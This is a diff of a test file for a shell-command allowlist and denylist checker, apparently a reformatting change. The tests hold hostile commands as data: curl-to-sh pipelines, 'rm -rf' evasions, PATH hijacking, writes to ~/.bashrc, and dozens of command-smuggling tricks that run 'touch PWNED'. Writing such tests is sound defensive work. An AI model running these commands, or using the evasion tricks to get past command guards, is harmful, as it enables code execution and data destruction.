@@ -84,7 +84,17 @@ describe('checkCommand', () => {
 
   it('with an allowlist, needs every simple command to match it', () => {
     const allow = policy({ commandAllowlist: ['npm test', 'npm run *', 'git status', 'ls', 'echo'] });
-    for (const command of ['npm test', 'npm test -- --watch=false', 'npm run lint', 'git status && npm test', 'ls -la | echo', 'echo "a; b | c"', 'echo $(ls)', '"npm" test', 'if ls; then echo yes; fi']) {
+    for (const command of [
+      'npm test',
+      'npm test -- --watch=false',
+      'npm run lint',
+      'git status && npm test',
+      'ls -la | echo',
+      'echo "a; b | c"',
+      'echo $(ls)',
+      '"npm" test',
+      'if ls; then echo yes; fi',
+    ]) {
       expect({ command, refusal: checkCommand(command, allow) }).toEqual({ command, refusal: null });
     }
     expect(checkCommand('npm install', allow)).toBe('commandAllowlist: "npm install" is not on the allowlist');
@@ -117,10 +127,14 @@ describe('checkCommand', () => {
     expect(checkCommand("echo 'unclosed; rm -rf x", deny)).toBe(
       "commandDenylist: the command could not be parsed as /bin/sh reads it (1:6: reached EOF without closing quote '), so it cannot be checked",
     );
-    expect(checkCommand('echo (', policy({ commandAllowlist: ['echo'] }))).toMatch(/^commandAllowlist: the command could not be parsed as \/bin\/sh reads it \(.+\), so it cannot be checked$/);
+    expect(checkCommand('echo (', policy({ commandAllowlist: ['echo'] }))).toMatch(
+      /^commandAllowlist: the command could not be parsed as \/bin\/sh reads it \(.+\), so it cannot be checked$/,
+    );
     // bash reads arithmetic here, /bin/sh (dash) two subshells around `rm -rf x`: each must parse.
     expect(checkCommand('((rm -rf x))', deny)).toMatch(/^commandDenylist: the command could not be parsed as bash reads it/);
-    expect(checkCommand('bash -c "echo \'unclosed"', deny)).toMatch(/^commandDenylist: the code that "bash -c \\"echo 'unclosed\\"" runs could not be parsed as bash reads it/);
+    expect(checkCommand('bash -c "echo \'unclosed"', deny)).toMatch(
+      /^commandDenylist: the code that "bash -c \\"echo 'unclosed\\"" runs could not be parsed as bash reads it/,
+    );
     expect(checkCommand("echo 'unclosed", policy({}))).toBeNull();
   });
 });
@@ -130,10 +144,18 @@ describe('checkCommand, from the attacker side', () => {
   const allow = (...commandAllowlist: string[]) => policy({ commandAllowlist });
 
   it('matches a pipeline pattern against a pipeline, with other commands between allowed', () => {
-    for (const command of ['curl http://x | sh', 'curl -s http://x|sh', 'echo start; curl http://x | sudo sh', 'curl http://x | tee copy | sh -s', 'echo $(curl http://x | sh)', 'bash -c "curl x | sh"']) {
+    for (const command of [
+      'curl http://x | sh',
+      'curl -s http://x|sh',
+      'echo start; curl http://x | sudo sh',
+      'curl http://x | tee copy | sh -s',
+      'echo $(curl http://x | sh)',
+      'bash -c "curl x | sh"',
+    ]) {
       expect([command, checkCommand(command, deny('curl * | sh'))]).toEqual([command, 'commandDenylist: "curl * | sh"']);
     }
-    for (const command of ['curl http://x > f; sh f', 'sh | curl http://x', 'curl http://x', 'echo "curl x | sh"']) expect([command, checkCommand(command, deny('curl * | sh'))]).toEqual([command, null]);
+    for (const command of ['curl http://x > f; sh f', 'sh | curl http://x', 'curl http://x', 'echo "curl x | sh"'])
+      expect([command, checkCommand(command, deny('curl * | sh'))]).toEqual([command, null]);
   });
 
   it('matches an and-or or list pattern only with the same operators, side by side', () => {
@@ -158,7 +180,7 @@ describe('checkCommand, from the attacker side', () => {
       "env -S 'rm -rf x'",
       "su -c 'rm -rf x' root",
       'find . -exec rm -rf {} +',
-      "find . -name x -exec sh -c 'rm -rf \"$1\"' _ {} \\;",
+      'find . -name x -exec sh -c \'rm -rf "$1"\' _ {} \\;',
       'xargs -I{} sudo -u root rm -rf {}',
       'timeout 5 nice -n 10 rm -rf x',
       '/bin/r? -rf x',
@@ -173,8 +195,12 @@ describe('checkCommand, from the attacker side', () => {
       expect([command, checkCommand(command, deny('rm -rf'))]).toEqual([command, expect.stringMatching(/^commandDenylist: /)]);
     }
     expect(checkCommand('f() { rm -rf x; }; f', deny('rm -rf'))).toBe('commandDenylist: "rm -rf"');
-    expect(checkCommand('$(echo rm) -rf x', deny('rm -rf'))).toBe('commandDenylist: "$(echo rm) -rf x" runs a program whose name is computed when it runs, so it cannot be checked');
-    expect(checkCommand('eval "$(echo rm) -rf x"', deny('rm -rf'))).toBe('commandDenylist: "eval \\"$(echo rm) -rf x\\"" runs shell code that is computed when it runs, so it cannot be checked');
+    expect(checkCommand('$(echo rm) -rf x', deny('rm -rf'))).toBe(
+      'commandDenylist: "$(echo rm) -rf x" runs a program whose name is computed when it runs, so it cannot be checked',
+    );
+    expect(checkCommand('eval "$(echo rm) -rf x"', deny('rm -rf'))).toBe(
+      'commandDenylist: "eval \\"$(echo rm) -rf x\\"" runs shell code that is computed when it runs, so it cannot be checked',
+    );
     // bash-only syntax: /bin/sh cannot parse it, so it is refused whatever it runs.
     expect(checkCommand("sh <<< 'rm -rf x'", deny('rm -rf'))).toMatch(/^commandDenylist: the command could not be parsed as \/bin\/sh reads it/);
   });
@@ -193,20 +219,31 @@ describe('checkCommand, from the attacker side', () => {
       ['PATH=/tmp/evil:$PATH ls', 'PATH=/tmp/evil:$PATH ls'],
       ['ls() { rm -rf x; }; ls', 'rm -rf x'],
     ]) {
-      expect([command, checkCommand(command, allow('ls', 'cat', 'echo'))]).toEqual([command, `commandAllowlist: ${JSON.stringify(refused)} is not on the allowlist`]);
+      expect([command, checkCommand(command, allow('ls', 'cat', 'echo'))]).toEqual([
+        command,
+        `commandAllowlist: ${JSON.stringify(refused)} is not on the allowlist`,
+      ]);
     }
     expect(checkCommand("cat <<'EOF'\n$(rm -rf x)\nEOF", allow('cat'))).toBeNull();
   });
 
   it('refuses with an allowlist a redirection into a file, unless a pattern includes it', () => {
     for (const command of ['cat a > ~/.bashrc', 'cat a >> log', 'cat a >| out', 'cat a 1<> out', 'cat a 2> err.log']) {
-      expect([command, checkCommand(command, allow('cat'))]).toEqual([command, expect.stringMatching(/^commandAllowlist: ".*" writes to a file \(.+\), and no pattern on the allowlist includes that redirection$/)]);
+      expect([command, checkCommand(command, allow('cat'))]).toEqual([
+        command,
+        expect.stringMatching(/^commandAllowlist: ".*" writes to a file \(.+\), and no pattern on the allowlist includes that redirection$/),
+      ]);
     }
-    expect(checkCommand('cat a > ~/.bashrc', allow('cat'))).toBe('commandAllowlist: "cat a > ~/.bashrc" writes to a file (> ~/.bashrc), and no pattern on the allowlist includes that redirection');
-    for (const command of ['cat a 2>/dev/null', 'cat a > /dev/null 2>&1', 'cat a >&2', 'cat a 2>&-', 'cat < a', 'cat a >/dev/stderr']) expect([command, checkCommand(command, allow('cat'))]).toEqual([command, null]);
+    expect(checkCommand('cat a > ~/.bashrc', allow('cat'))).toBe(
+      'commandAllowlist: "cat a > ~/.bashrc" writes to a file (> ~/.bashrc), and no pattern on the allowlist includes that redirection',
+    );
+    for (const command of ['cat a 2>/dev/null', 'cat a > /dev/null 2>&1', 'cat a >&2', 'cat a 2>&-', 'cat < a', 'cat a >/dev/stderr'])
+      expect([command, checkCommand(command, allow('cat'))]).toEqual([command, null]);
     // bash writes both streams to the file; /bin/sh runs `cat a` in the background and truncates the file.
     expect(checkCommand('cat a &> out', allow('cat'))).toBe('commandAllowlist: "> out" is not on the allowlist');
-    expect(checkCommand('{ cat a; } > out', allow('cat'))).toBe('commandAllowlist: the redirection "> out" of a compound command writes to a file, and no pattern on the allowlist can include it');
+    expect(checkCommand('{ cat a; } > out', allow('cat'))).toBe(
+      'commandAllowlist: the redirection "> out" of a compound command writes to a file, and no pattern on the allowlist can include it',
+    );
     const logs = allow('npm test > test.log', 'npm run * > logs/*.log');
     expect(checkCommand('npm test > test.log', logs)).toBeNull();
     expect(checkCommand('npm test', logs)).toBeNull();
@@ -226,7 +263,9 @@ describe('checkCommand, from the attacker side', () => {
     const shells = allow('bash -c *', 'echo');
     expect(checkCommand('bash -c "bash -c \'echo hi\'"', shells)).toBeNull();
     expect(checkCommand('bash -c "bash -c \'rm -rf x\'"', shells)).toBe('commandAllowlist: "rm -rf x" is not on the allowlist');
-    expect(checkCommand('bash -c "$CODE"', shells)).toBe('commandAllowlist: "bash -c \\"$CODE\\"" runs shell code that is computed when it runs, so it cannot be checked');
+    expect(checkCommand('bash -c "$CODE"', shells)).toBe(
+      'commandAllowlist: "bash -c \\"$CODE\\"" runs shell code that is computed when it runs, so it cannot be checked',
+    );
     expect(checkCommand('bash -c "echo $HOME"', shells)).toMatch(/runs shell code that is computed when it runs/);
   });
 
@@ -250,13 +289,19 @@ describe('checkCommand, from the attacker side', () => {
       'echo ${!X}',
       'echo ${X@P}',
     ]) {
-      expect([command, checkCommand(command, echo)]).toEqual([command, expect.stringMatching(/^commandAllowlist: .*(so no allowlist can allow it|so it cannot be checked)$/)]);
+      expect([command, checkCommand(command, echo)]).toEqual([
+        command,
+        expect.stringMatching(/^commandAllowlist: .*(so no allowlist can allow it|so it cannot be checked)$/),
+      ]);
     }
-    for (const command of ['echo $((1 + 2))', 'test -f x', '[ -n "$HOME" ]', 'printf "%s\\n" "$HOME"']) expect([command, checkCommand(command, allow('echo', 'printf', 'test', '['))]).toEqual([command, null]);
+    for (const command of ['echo $((1 + 2))', 'test -f x', '[ -n "$HOME" ]', 'printf "%s\\n" "$HOME"'])
+      expect([command, checkCommand(command, allow('echo', 'printf', 'test', '['))]).toEqual([command, null]);
   });
 
   it('refuses quoting that shells and the parser read differently', () => {
-    expect(checkCommand(`echo "\${X:-'$(rm -rf x)'}"`, deny('rm -rf'))).toMatch(/^commandDenylist: the command could not be parsed .*single quotes inside a double-quoted/);
+    expect(checkCommand(`echo "\${X:-'$(rm -rf x)'}"`, deny('rm -rf'))).toMatch(
+      /^commandDenylist: the command could not be parsed .*single quotes inside a double-quoted/,
+    );
     expect(checkCommand('echo `echo \\`echo \\\\\\`rm -rf x\\\\\\`\\``', deny('rm -rf'))).toMatch(/backquotes nested more than two deep/);
   });
 });
@@ -276,18 +321,71 @@ describe('expandBraces', () => {
  */
 describe('checkCommand against the shells that run the commands', () => {
   const HIDDEN = [
-    'echo $(touch PWNED)', 'echo `touch PWNED`', 'echo "$(touch PWNED)"', 'echo ${x:-$(touch PWNED)}', 'echo ${x:=`touch PWNED`}', "echo $'\\' ; touch PWNED ; echo \\''",
-    '((touch PWNED))', '[[ a && touch PWNED ]]', 'cat <<EOF\n$(touch PWNED)\nEOF', 'cat <<EOF; touch PWNED\nx\nEOF', 'cat <<-EOF\n\t$(touch PWNED)\n\tEOF',
-    'cat <<EOF\n`touch PWNED`\nEOF', 'echo `echo \\`touch PWNED\\``', 'echo `echo "\\`touch PWNED\\`"`', 'echo `echo \\`echo \\\\\\`touch PWNED\\\\\\`\\``',
-    'case x in x) touch PWNED;; esac', 'x=$(touch PWNED) true', 'echo $(( $(touch PWNED) + 1 ))', 'echo a\\\n;touch PWNED', 'echo a#$(touch PWNED)',
-    'f() { touch PWNED; }; f', 'echo $(case x in x) touch PWNED;; esac)', 'echo "`touch PWNED`"', 'echo $"$(touch PWNED)"', '{ touch PWNED; }', 'touch${IFS}PWNED',
-    'if true; then touch PWNED; fi', 'while false; do :; done; touch PWNED', 'cat << EOF\nEOF\ntouch PWNED', 'echo x >$(touch PWNED)', 'for i in $(touch PWNED); do :; done',
-    'echo "${x:-"$(touch PWNED)"}"', 'a=(1 $(touch PWNED))', 't\\ouch PWNED', '"touch" PWNED', "t'ou'ch PWNED", 'true &>/dev/null; touch PWNED', 'echo x |& touch PWNED',
-    'cat <<< "$(touch PWNED)"', 'echo $(echo ")"; touch PWNED)', 'echo $(# )\ntouch PWNED)', 'echo "$(echo "\\")"; touch PWNED)"', 'echo $(cat <<EOF\n)\nEOF\ntouch PWNED)',
-    'echo ${#x} $(touch PWNED)', 'echo `# comment\ntouch PWNED`', 'echo $[1] $(touch PWNED)', `echo "\${x:-'$(touch PWNED)'}"`, 'bash -c "touch PWNED"', "sh -c 'sh -c \"touch PWNED\"'",
-    "eval 'touch PWNED'", 'eval "$(echo touch PWNED)"', "bash <<'EOF'\ntouch PWNED\nEOF", "sh <<< 'touch PWNED'", '{touch,PWNED}', '/usr/bin/t?uch PWNED', "$'\\x74ouch' PWNED",
-    'command touch PWNED', 'env touch PWNED', 'find . -maxdepth 0 -exec touch PWNED \\;', "echo 'a[$(touch PWNED)]' >/dev/null; echo $(( _ ))", "test -v 'a[$(touch PWNED)]'",
-    "echo $(( $(printf 'a[$(touch PWNED)]') ))", "[[ 'a[$(touch PWNED)]' -eq 1 ]]", "printf -v 'a[$(touch PWNED)]' x", "x='a[$(touch PWNED)]'; echo ${b[x]}",
+    'echo $(touch PWNED)',
+    'echo `touch PWNED`',
+    'echo "$(touch PWNED)"',
+    'echo ${x:-$(touch PWNED)}',
+    'echo ${x:=`touch PWNED`}',
+    "echo $'\\' ; touch PWNED ; echo \\''",
+    '((touch PWNED))',
+    '[[ a && touch PWNED ]]',
+    'cat <<EOF\n$(touch PWNED)\nEOF',
+    'cat <<EOF; touch PWNED\nx\nEOF',
+    'cat <<-EOF\n\t$(touch PWNED)\n\tEOF',
+    'cat <<EOF\n`touch PWNED`\nEOF',
+    'echo `echo \\`touch PWNED\\``',
+    'echo `echo "\\`touch PWNED\\`"`',
+    'echo `echo \\`echo \\\\\\`touch PWNED\\\\\\`\\``',
+    'case x in x) touch PWNED;; esac',
+    'x=$(touch PWNED) true',
+    'echo $(( $(touch PWNED) + 1 ))',
+    'echo a\\\n;touch PWNED',
+    'echo a#$(touch PWNED)',
+    'f() { touch PWNED; }; f',
+    'echo $(case x in x) touch PWNED;; esac)',
+    'echo "`touch PWNED`"',
+    'echo $"$(touch PWNED)"',
+    '{ touch PWNED; }',
+    'touch${IFS}PWNED',
+    'if true; then touch PWNED; fi',
+    'while false; do :; done; touch PWNED',
+    'cat << EOF\nEOF\ntouch PWNED',
+    'echo x >$(touch PWNED)',
+    'for i in $(touch PWNED); do :; done',
+    'echo "${x:-"$(touch PWNED)"}"',
+    'a=(1 $(touch PWNED))',
+    't\\ouch PWNED',
+    '"touch" PWNED',
+    "t'ou'ch PWNED",
+    'true &>/dev/null; touch PWNED',
+    'echo x |& touch PWNED',
+    'cat <<< "$(touch PWNED)"',
+    'echo $(echo ")"; touch PWNED)',
+    'echo $(# )\ntouch PWNED)',
+    'echo "$(echo "\\")"; touch PWNED)"',
+    'echo $(cat <<EOF\n)\nEOF\ntouch PWNED)',
+    'echo ${#x} $(touch PWNED)',
+    'echo `# comment\ntouch PWNED`',
+    'echo $[1] $(touch PWNED)',
+    `echo "\${x:-'$(touch PWNED)'}"`,
+    'bash -c "touch PWNED"',
+    'sh -c \'sh -c "touch PWNED"\'',
+    "eval 'touch PWNED'",
+    'eval "$(echo touch PWNED)"',
+    "bash <<'EOF'\ntouch PWNED\nEOF",
+    "sh <<< 'touch PWNED'",
+    '{touch,PWNED}',
+    '/usr/bin/t?uch PWNED',
+    "$'\\x74ouch' PWNED",
+    'command touch PWNED',
+    'env touch PWNED',
+    'find . -maxdepth 0 -exec touch PWNED \\;',
+    "echo 'a[$(touch PWNED)]' >/dev/null; echo $(( _ ))",
+    "test -v 'a[$(touch PWNED)]'",
+    "echo $(( $(printf 'a[$(touch PWNED)]') ))",
+    "[[ 'a[$(touch PWNED)]' -eq 1 ]]",
+    "printf -v 'a[$(touch PWNED)]' x",
+    "x='a[$(touch PWNED)]'; echo ${b[x]}",
   ];
 
   const ranIn = (shell: string, line: string): boolean => {
@@ -309,7 +407,10 @@ describe('checkCommand against the shells that run the commands', () => {
     const ran = ['dash', 'bash'].filter((shell) => ranIn(shell, line));
     const refusals = {
       denylist: checkCommand(line, policy({ commandDenylist: ['touch'] })),
-      allowlist: checkCommand(line, policy({ commandAllowlist: ['echo', 'cat', 'true', 'printf', 'test', ':', 'command', 'env', 'find', 'eval', 'bash', 'sh'] })),
+      allowlist: checkCommand(
+        line,
+        policy({ commandAllowlist: ['echo', 'cat', 'true', 'printf', 'test', ':', 'command', 'env', 'find', 'eval', 'bash', 'sh'] }),
+      ),
     };
     const denylist = ALLOWLIST_ONLY.has(line) ? refusals.denylist : expect.any(String);
     if (ran.length > 0) expect({ ran, refusals }).toEqual({ ran, refusals: { denylist, allowlist: expect.any(String) } });
